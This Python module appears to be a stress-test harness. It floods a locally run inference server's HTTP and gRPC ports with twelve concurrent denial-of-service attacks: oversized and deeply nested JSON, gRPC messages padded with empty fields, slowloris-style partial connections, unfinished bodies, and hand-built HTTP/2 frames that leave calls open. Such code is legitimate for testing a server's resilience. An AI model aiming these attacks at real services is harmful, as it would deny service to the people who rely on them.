"""Clients that try to keep a server from answering others: one process with a thread for each kind of attack."""

from __future__ import annotations

import socket
import struct
import threading
from collections import Counter
from collections.abc import Callable
from contextlib import ExitStack, suppress
from http.client import HTTPConnection, HTTPException
from multiprocessing.connection import Connection
from typing import TypeAlias

import grpc

_JSON_BYTES = 16 << 20
_INFER = "/inference.GRPCInferenceService/ModelInfer"
_PAUSE_S = 0.5  # between two of the same attack
_HOLD_S = 3.0  # for which what was opened stays open
_CONNECTIONS, _CALLS, _BODIES = 300, 128, 16  # that are open at once


class Target:
    """A server under attack.

    Args:
        port: port of HTTP.
        rpc: port of gRPC.
        model: name of a model with the input ``x0``.
        max_bytes: most bytes of a request.
    """

    def __init__(self, port: int, rpc: int, model: str, max_bytes: int) -> None:
        self.port, self.rpc, self.model, self.max_bytes = port, rpc, model, max_bytes
        self.over = threading.Event()
        self.made: Counter[str] = Counter()  # attacks by kind

    def connect(self, port: int) -> socket.socket:
        made = socket.create_connection(("127.0.0.1", port), timeout=10)
        made.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        return made

    def post(self, body: bytes) -> None:
        """Send a body as a request for inference, and read the answer."""
        connection = HTTPConnection("127.0.0.1", self.port, timeout=60)
        try:
            connection.request("POST", f"/v2/models/{self.model}/infer", body)
            connection.getresponse().read()
        finally:
            connection.close()

    def hold(self) -> None:
        """Leave open what is open for a while."""
        self.over.wait(_HOLD_S)


Attack: TypeAlias = Callable[[Target], None]


def _json(values: bytes) -> Attack:
    """Return an attack that sends the most JSON that a request may have, of one kind of value over and over."""
    head = b'{"inputs": [{"name": "x0", "shape": [1, 256], "datatype": "FP32", "data": ['
    body = head + b",".join([values] * ((_JSON_BYTES - 200) // (len(values) + 1))) + b"]}]}"
    return lambda target: target.post(body)


def _nested(target: Target) -> None:
    target.post(b"[" * 1_000_000)


def _bomb(field: int) -> Attack:
    """Return an attack that sends a message of gRPC with very many empty messages."""

    def attack(target: Target) -> None:
        name = target.model.encode()
        sent = b"\x0a" + bytes([len(name)]) + name + bytes([field << 3 | 2, 0]) * (target.max_bytes // 2 - 100)
        with grpc.insecure_channel(f"127.0.0.1:{target.rpc}", options=[("grpc.max_send_message_length", -1)]) as channel:
            channel.unary_unary(_INFER)(sent, timeout=60)

    return attack


def _silent(target: Target) -> None:
    """Open connections that send nothing, or half a head."""
    with ExitStack() as stack:
        for number in range(_CONNECTIONS):
            made = stack.enter_context(target.connect(target.port))
            if number % 2:
                made.sendall(b"POST /v2/models/x/infer HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Le")
        target.hold()


def _bodies(target: Target) -> None:
    """Send almost all of the largest bodies."""
    head = f"POST /v2/models/{target.model}/infer HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: {target.max_bytes}\r\n\r\n"
    with ExitStack() as stack:
        for _ in range(_BODIES):
            stack.enter_context(target.connect(target.port)).sendall(head.encode() + bytes(target.max_bytes - 20))
        target.hold()


def _garbage(target: Target) -> None:
    """Send bytes of no protocol, and leave in the middle."""
    for port in (target.port, target.rpc):
        with target.connect(port) as made:
            made.sendall(bytes(range(256)) * 64)
    head = f"POST /v2/models/{target.model}/infer HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 9\r\n\r\n"
    with target.connect(target.port) as made:
        made.sendall(head.encode() + b"{")


def _deaf(target: Target) -> None:
    """Ask many times, and read no answer."""
    with target.connect(target.port) as made:
        made.settimeout(_HOLD_S)
        with suppress(TimeoutError):
            for _ in range(10_000):
                made.sendall(b"GET /metrics HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
        target.hold()


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """Return a frame of HTTP/2 (RFC 9113, section 4.1)."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _head(port: int) -> bytes:
    """Return the head of a call of gRPC, in literal fields of HPACK (RFC 7541, section 6.2.2)."""
    fields = {
        ":method": "POST",
        ":scheme": "http",
        ":path": _INFER,
        ":authority": f"127.0.0.1:{port}",
        "te": "trailers",
        "content-type": "application/grpc",
    }
    return b"".join(
        b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode() for name, value in fields.items()
    )


def _opened(target: Target, stack: ExitStack) -> socket.socket:
    """Return a connection of HTTP/2."""
    made = stack.enter_context(target.connect(target.rpc))
    made.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0, b""))
    return made


def _calls(target: Target) -> None:
    """Open calls of gRPC that send no message."""
    with ExitStack() as stack:
        for _ in range(8):
            made = _opened(target, stack)
            made.sendall(b"".join(_frame(1, 4, 2 * call + 1, _head(target.rpc)) for call in range(_CALLS)))
        target.hold()


def _halves(target: Target) -> None:
    """Send a part of a message of gRPC, as far as the server reads without being answered, and leave it at that."""
    with ExitStack() as stack:
        for _ in range(_BODIES):
            made = _opened(target, stack)
            begun = struct.pack(">BI", 0, target.max_bytes // 2) + bytes(16_000)
            made.sendall(_frame(1, 4, 1, _head(target.rpc)) + _frame(0, 0, 1, begun) + _frame(0, 0, 1, bytes(16_000)))
        target.hold()


ATTACKS: dict[str, Attack] = {
    "JSON of empty lists": _json(b"[]"),
    "JSON of numbers": _json(b"1"),
    "JSON of texts": _json(b'"\\u1234"'),
    "deep JSON": _nested,
    "gRPC, empty inputs": _bomb(5),
    "gRPC, empty contents": _bomb(7),
    "silent connections": _silent,
    "bodies without an end": _bodies,
    "no protocol": _garbage,
    "answers that are not read": _deaf,
    "calls without a message": _calls,
    "messages without an end": _halves,
}


def attack(connection: Connection, port: int, rpc: int, model: str, max_bytes: int) -> None:
    """Attack a server in all ways at once, from the first message that arrives to the second; send the number of each attack.

    A message is sent when the attacks, which are large, have been written.
    """
    target = Target(port, rpc, model, max_bytes)

    def repeat(name: str, made: Attack) -> None:
        while not target.over.is_set():
            with suppress(OSError, HTTPException, grpc.RpcError):  # the server may refuse all of this
                made(target)
            target.made[name] += 1
            target.over.wait(_PAUSE_S)

    threads = [threading.Thread(target=repeat, args=one) for one in ATTACKS.items()]
    connection.send("ready")
    connection.recv()
    for thread in threads:
        thread.start()
    connection.recv()
    target.over.set()
    for thread in threads:
        thread.join()
    connection.send(dict(target.made))
